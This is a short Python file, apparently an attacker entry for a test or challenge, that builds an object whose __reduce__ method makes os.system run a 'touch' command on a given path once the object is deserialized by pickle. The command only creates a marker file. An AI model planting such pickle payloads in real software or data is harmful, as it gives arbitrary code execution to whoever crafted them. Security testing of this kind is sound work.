"""Answers with an object that would run a command if it were pickled."""

import os

STOPPED_AT = "L0"
THROUGH_AT = None


def attack(t):
    class A:
        def __reduce__(self):
            return os.system, ("touch " + t["outside"],)

    return A()
